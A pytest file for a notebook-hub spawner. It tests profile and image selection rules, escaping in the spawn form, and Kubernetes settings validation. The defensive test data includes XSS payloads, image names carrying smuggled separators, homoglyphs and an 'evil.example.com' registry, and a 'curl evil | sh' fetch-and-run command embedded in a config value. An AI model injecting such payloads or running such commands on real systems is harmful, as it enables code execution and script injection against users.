"""The profile model on its own: validation rules, the spawn form, and the settings behind them.

The same rules are exercised through the real hub in tests/integration/test_spawn_tampering.py;
here each rule is pinned down quickly and in isolation.
"""

from __future__ import annotations

import copy
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from kumohub.spawner.form import render_form
from kumohub.spawner.profiles import (
    SpawnOptionsError,
    options_from_form,
    profiles_for,
    resolve_selection,
)

from kumohub.settings import Settings, SettingsError, load_settings, parse_settings

REPO = Path(__file__).resolve().parents[2]
SETTINGS = load_settings(REPO / "hub_config" / "local-settings.yaml")
ALICE = frozenset({"data-science"})
BOB = frozenset({"data-science", "gpu-users"})
PLATFORM = frozenset({"ml-platform"})
ECR = "123456789012.dkr.ecr.us-east-1.amazonaws.com/kumohub"
HOSTILE = "<img src=x onerror=alert(1)>"


def refused(options: Any, groups: frozenset[str] = ALICE) -> str:
    with pytest.raises(SpawnOptionsError) as error:
        resolve_selection(options, SETTINGS.profiles, groups)
    return str(error.value)


# -- resolve_selection: what a spawn may ask for ----------------------------------------


def test_defaults_and_canonical_options() -> None:
    for empty in (None, {}):
        chosen = resolve_selection(empty, SETTINGS.profiles, ALICE)
        assert chosen.options == {"profile": "cpu-small", "image": "datascience"}
    gpu = resolve_selection({"profile": "gpu-a10g"}, SETTINGS.profiles, BOB)
    assert gpu.options == {"profile": "gpu-a10g", "image": "pytorch"}
    custom = resolve_selection(
        {"profile": "gpu-a10g", "custom_image": f"{ECR}/team-llm:v3"}, SETTINGS.profiles, PLATFORM
    )
    assert custom.image == f"{ECR}/team-llm:v3"
    assert custom.options == {"profile": "gpu-a10g", "custom_image": f"{ECR}/team-llm:v3"}


@pytest.mark.parametrize(
    ("options", "groups", "message"),
    [
        ([{"profile": "cpu-small"}], ALICE, "must be a JSON object, not an array"),
        ("cpu-small", ALICE, "must be a JSON object, not a string"),
        ({"profile": "cpu-small", "cpu_limit": 64}, ALICE, "unknown spawn option(s): 'cpu_limit'"),
        ({"profile": None}, ALICE, "'profile' must be a string, not null"),
        ({"profile": {"slug": "cpu-small"}}, ALICE, "'profile' must be a string, not an object"),
        ({"profile": ""}, ALICE, "'profile' must not be empty"),
        ({"profile": "x" * 513}, ALICE, "'profile' is 513 characters long; at most 512"),
        ({"profile": "cpu-small\u200b"}, ALICE, "contains control or invisible characters"),
        ({"image": "datascience"}, ALICE, "'profile' is required"),
        ({"profile": "gpu-a10g"}, ALICE, "does not exist or is not available to you"),
        ({"profile": "cpu\u2010small"}, ALICE, "does not exist or is not available to you"),
        (
            {"profile": "cpu-large", "image": "pytorch-cpu"},
            ALICE,
            "image 'pytorch-cpu' does not exist in profile 'cpu-large'",
        ),
        (
            {"profile": "cpu-small", "custom_image": "myorg/x:1"},
            ALICE,
            "profile 'cpu-small' does not accept a custom image",
        ),
        (
            {"profile": "gpu-a10g", "custom_image": f"{ECR}/x:1"},
            BOB,
            "profile 'gpu-a10g' does not accept a custom image",
        ),
        (
            {"profile": "gpu-a10g", "image": "pytorch", "custom_image": f"{ECR}/x:1"},
            PLATFORM,
            "give either 'image' or 'custom_image', not both",
        ),
    ],
)
def test_each_rule_names_the_problem(options: Any, groups: frozenset[str], message: str) -> None:
    assert message in refused(options, groups)


@pytest.mark.parametrize(
    "image",
    [
        f"{ECR}/x:1; evil/image",
        f"{ECR}/x:1 evil/image",
        f"{ECR}/x:1\nevil/image",
        f"{ECR}/x:1\n",
        f"{ECR}/x\u043e:1",  # Cyrillic o
        f"{ECR}/x:1\u200b",
        f"evil.example.com/{ECR}/x:1",
        f"{ECR}/x:1@sha256:{'0' * 64}",
        f"{ECR}/../x:1",
    ],
)
def test_free_text_image_must_match_the_pattern_in_full(image: str) -> None:
    message = refused({"profile": "gpu-a10g", "custom_image": image}, PLATFORM)
    assert "is not allowed" in message or "control or invisible" in message


def test_patterns_are_ascii_only_even_with_backslash_w() -> None:
    data = yaml_settings()
    data["profiles"][2]["free_image"]["pattern"] = r"myorg/\w+:\d+"
    settings = parse_settings(data)
    ok = resolve_selection(
        {"profile": "gpu-a10g", "custom_image": "myorg/tool:42"}, settings.profiles, PLATFORM
    )
    assert ok.image == "myorg/tool:42"
    for look_alike in ("myorg/tооl:42", "myorg/tool:٤٢"):  # Cyrillic o, Arabic-Indic digits
        with pytest.raises(SpawnOptionsError):
            resolve_selection(
                {"profile": "gpu-a10g", "custom_image": look_alike}, settings.profiles, PLATFORM
            )


def test_form_fields_must_each_appear_once_and_be_known() -> None:
    assert options_from_form({"profile": ["cpu-small"], "image": ["datascience"], "_xsrf": ["t"]})
    with pytest.raises(SpawnOptionsError, match="must be given exactly once"):
        options_from_form({"profile": ["cpu-small", "gpu-a10g"]})
    with pytest.raises(SpawnOptionsError, match="unknown form field 'cpu_limit'"):
        options_from_form({"profile": ["cpu-small"], "cpu_limit": ["64"]})
    # The form posts the image select and the free-text field; filled-in text wins.
    both = options_from_form(
        {"profile": ["gpu-a10g"], "image": ["pytorch"], "custom_image": [f"{ECR}/x:1"]}
    )
    assert both == {"profile": "gpu-a10g", "custom_image": f"{ECR}/x:1"}


def test_profiles_and_choices_follow_groups() -> None:
    assert [p.slug for p in profiles_for(SETTINGS.profiles, ALICE)] == ["cpu-small", "cpu-large"]
    assert "gpu-a10g" in [p.slug for p in profiles_for(SETTINGS.profiles, BOB)]
    assert [p.slug for p in profiles_for(SETTINGS.profiles, frozenset())] == ["cpu-small"]


# -- the spawn form -----------------------------------------------------------------------


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    return parser


def hostile_settings() -> Settings:
    data = yaml_settings()
    gpu = data["profiles"][2]
    gpu["display_name"] = HOSTILE
    gpu["description"] = f"</div>{HOSTILE}"
    gpu["images"][0]["display_name"] = '"><script>alert(2)</script>'
    gpu["images"][0]["description"] = HOSTILE
    gpu["free_image"]["display_name"] = HOSTILE
    gpu["free_image"]["pattern"] = f'{ECR}/[a-z]+:"onfocus=alert(3)'
    return parse_settings(data)


def test_every_displayed_string_is_escaped() -> None:
    html = render_form(hostile_settings().profiles, BOB | PLATFORM, None)
    elements = parse(html)
    tags = [tag for tag, _ in elements.tags]
    assert "img" not in tags
    assert tags.count("script") == 1  # the form's own script only
    assert HOSTILE in "".join(elements.text)
    for _, attrs in elements.tags:
        assert not any(name.startswith("on") for name in attrs)


def test_form_shows_resources_gpu_badge_cost_and_preselects_the_last_choice() -> None:
    html = render_form(SETTINGS.profiles, BOB, {"profile": "cpu-small", "image": "pytorch-cpu"})
    text = " ".join(parse(html).text)
    assert "GPU 1× NVIDIA A10G" in text
    assert "$1.21/hour" in text and "$0.05/hour" in text
    assert "0.5–1 CPU" in text and "2G–4G memory" in text
    assert "stops after at most 30 min idle" in text and "runs at most 8 h" in text
    checked = [a for t, a in parse(html).tags if t == "input" and "checked" in a]
    assert [a["value"] for a in checked] == ["cpu-small"]
    assert re.search(r'<option value="pytorch-cpu" selected>', html)
    alice = render_form(SETTINGS.profiles, ALICE, None)
    assert 'value="gpu-a10g"' not in alice and "GPU 1×" not in alice


def test_form_ignores_previous_options_that_are_not_allowed_any_more() -> None:
    html = render_form(SETTINGS.profiles, ALICE, {"profile": "gpu-a10g", "image": "pytorch"})
    checked = [a["value"] for t, a in parse(html).tags if t == "input" and "checked" in a]
    assert checked == ["cpu-small"]


# -- settings for profiles, storage and Kubernetes ---------------------------------------


def yaml_settings() -> dict[str, Any]:
    import yaml

    return copy.deepcopy(yaml.safe_load((REPO / "hub_config" / "local-settings.yaml").read_text()))


def problems(data: dict[str, Any]) -> str:
    with pytest.raises(SettingsError) as error:
        parse_settings(data, "test.yaml")
    return str(error.value)


def test_storage_settings_are_checked() -> None:
    data = yaml_settings()
    data["storage"]["home"] = {"pvc_name_template": "home-{username}-{servername}"}
    assert "storage.home.pvc_name_template: must contain '{username}' and no other" in problems(
        data
    )
    data["storage"]["home"] = {"pvc_name_template": "Home_{username}"}
    assert "which Kubernetes refuses" in problems(data)
    data["storage"]["home"] = {}
    data["storage"]["datasets"] = [
        {"name": "ref", "claim_name": "ref-data", "mount_path": "/data", "read_only": False}
    ]
    assert "storage.datasets[0].read_only" in problems(data)
    data["storage"]["datasets"] = [{"name": "ref", "claim_name": "Ref Data", "mount_path": "/d"}]
    assert "storage.datasets[0].claim_name: 'Ref Data' is not a valid Kubernetes name" in problems(
        data
    )
    data["storage"]["datasets"] = [{"name": "ref", "claim_name": "ref", "mount_path": "/dev/shm"}]
    assert "/dev/shm is reserved" in problems(data)
    data["storage"]["datasets"] = [
        {"name": "team", "claim_name": "ref", "mount_path": "/home/jovyan/team"}
    ]
    message = problems(data)
    assert "names must be unique" in message or "mount_path, repeated" in message


def test_kubernetes_and_gpu_settings_are_checked() -> None:
    data = yaml_settings()
    data["kubernetes"] = {"service_account_by_group": {"gpu-users": "GPU Role"}, "uid": 0}
    message = problems(data)
    assert "kubernetes.service_account_by_group: 'GPU Role' is not a valid Kubernetes name" in (
        message
    )
    assert "kubernetes.uid" in message
    data = yaml_settings()
    data["profiles"][2]["gpu"]["node_selector"] = {"gpu type": "a10g"}
    assert "'gpu type' is not a valid node label key" in problems(data)
    data = yaml_settings()
    data["profiles"][2]["shm_size"] = "32G"
    assert "shm_size is larger than resources.mem_limit" in problems(data)
    data = yaml_settings()
    data["profiles"][0]["images"][0]["image"] = "myorg/x:1; curl evil | sh"
    assert "profiles[0].images[0].image" in problems(data)
